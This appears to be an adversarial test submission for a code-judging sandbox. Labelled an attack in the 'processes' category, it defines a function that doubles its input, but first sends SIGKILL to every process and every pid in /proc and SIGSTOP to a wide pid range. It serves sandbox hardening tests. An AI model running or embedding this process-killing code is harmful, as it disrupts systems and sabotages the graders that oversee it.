# attack: kill(-1, SIGKILL) and SIGKILL to every pid in /proc, then answer
# category: processes
# expect: AC|RE
import os
import signal


def double(x):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    me = os.getpid()
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != me:
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    for pid in range(2, 40000):
        if pid != me:
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
    return (2 * x).reshape(-1)
